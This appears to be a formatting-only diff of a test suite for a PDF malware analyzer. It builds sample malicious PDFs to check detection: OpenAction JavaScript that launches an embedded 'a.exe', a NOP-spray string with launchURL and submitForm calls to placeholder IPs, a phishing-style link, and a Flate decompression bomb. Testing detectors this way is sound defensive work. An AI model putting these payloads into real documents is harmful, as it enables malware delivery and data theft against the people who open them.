@@ -23,7 +23,13 @@ const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');
 describe('active content', () => {
   test('JavaScript run by /OpenAction, hidden in a compressed object stream, is malicious', async () => {
     const pdf = await pdfWith((doc) => {
-      const action = doc.context.register(doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hi"); this.exportDataObject({cName: "a.exe", nLaunch: 2});') }));
+      const action = doc.context.register(
+        doc.context.obj({
+          Type: 'Action',
+          S: 'JavaScript',
+          JS: PDFString.of('app.alert("hi"); this.exportDataObject({cName: "a.exe", nLaunch: 2});'),
+        }),
+      );
       doc.catalog.set(PDFName.of('OpenAction'), action);
     });
     expect(latin1(pdf)).not.toContain('/JavaScript'); // only visible after inflating the object stream
@@ -42,7 +48,9 @@ describe('active content', () => {
 
   test('JavaScript kept in a Flate stream referenced by /JS n 0 R is read from the stream', async () => {
     const pdf = await pdfWith((doc) => {
-      const script = doc.context.register(doc.context.flateStream('var u = unescape("%u9090%u9090%u9090%u9090"); app.launchURL("http://198.51.100.7/x", true);'));
+      const script = doc.context.register(
+        doc.context.flateStream('var u = unescape("%u9090%u9090%u9090%u9090"); app.launchURL("http://198.51.100.7/x", true);'),
+      );
       const action = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: script }));
       doc.catalog.set(PDFName.of('OpenAction'), action);
     });
@@ -84,7 +92,10 @@ describe('active content', () => {
   test('ASCIIHex + Flate filter chains are decoded', () => {
     const inner = deflateSync(Buffer.from('<< /S /JavaScript /JS (this.submitForm\\("http://203.0.113.5/"\\)) >>'));
     const data = inner.toString('hex').toUpperCase() + '>';
-    const pdf = rawPdf(['<< /Type /Catalog /AA << /O 2 0 R >> >>', `<< /Filter [/ASCIIHexDecode /FlateDecode] /Length ${data.length} >>\nstream\n${data}\nendstream`]);
+    const pdf = rawPdf([
+      '<< /Type /Catalog /AA << /O 2 0 R >> >>',
+      `<< /Filter [/ASCIIHexDecode /FlateDecode] /Length ${data.length} >>\nstream\n${data}\nendstream`,
+    ]);
     const { finding, facts } = analyzePdf(pdf);
     expect(facts.javascript).toEqual(['this.submitForm("http://203.0.113.5/")']);
     expect(facts.names.AA).toBe(1);
@@ -93,7 +104,14 @@ describe('active content', () => {
 
   test('a link annotation: the URI is extracted, the PDF is not called malicious', async () => {
     const pdf = await pdfWith((doc) => {
-      const annot = doc.context.register(doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: { S: 'URI', URI: PDFString.of('https://login.example.net/verify') } }));
+      const annot = doc.context.register(
+        doc.context.obj({
+          Type: 'Annot',
+          Subtype: 'Link',
+          Rect: [0, 0, 100, 100],
+          A: { S: 'URI', URI: PDFString.of('https://login.example.net/verify') },
+        }),
+      );
       doc.getPage(0).node.addAnnot(annot);
     });
     const { finding, facts } = analyzePdf(pdf);
@@ -128,7 +146,11 @@ describe('real phishing PDFs from the corpus', () => {
 
 describe('malformed PDFs', () => {
   test('a huge declared /Length and an object without endobj are anomalies, not hangs', () => {
-    const pdf = Buffer.from('%PDF-1.4\n1 0 obj\n<< /Length 99999999999 /Filter /FlateDecode >>\nstream\nxyz\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog /OpenAction 3 0 R\n' + 'A'.repeat(100_000), 'latin1');
+    const pdf = Buffer.from(
+      '%PDF-1.4\n1 0 obj\n<< /Length 99999999999 /Filter /FlateDecode >>\nstream\nxyz\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog /OpenAction 3 0 R\n' +
+        'A'.repeat(100_000),
+      'latin1',
+    );
     const { finding, facts } = analyzePdf(pdf);
     expect(facts.anomalies.join(' ')).toMatch(/declared \/Length 99999999999 is larger than the file/);
     expect(facts.anomalies.join(' ')).toMatch(/1 object\(s\) without endobj/);
@@ -146,7 +168,11 @@ describe('malformed PDFs', () => {
 
   test('a Flate bomb stream is cut at the per-stream cap', () => {
     const bomb = deflateSync(Buffer.alloc(50 << 20));
-    const pdf = Buffer.concat([Buffer.from(`%PDF-1.5\n1 0 obj\n<< /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`), bomb, Buffer.from('\nendstream\nendobj\n')]);
+    const pdf = Buffer.concat([
+      Buffer.from(`%PDF-1.5\n1 0 obj\n<< /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`),
+      bomb,
+      Buffer.from('\nendstream\nendobj\n'),
+    ]);
     const { facts } = analyzePdf(pdf, { maxStreamOutput: 1 << 20 });
     expect(facts.undecoded.join(' ')).toMatch(/output over 1048576 bytes/);
   });
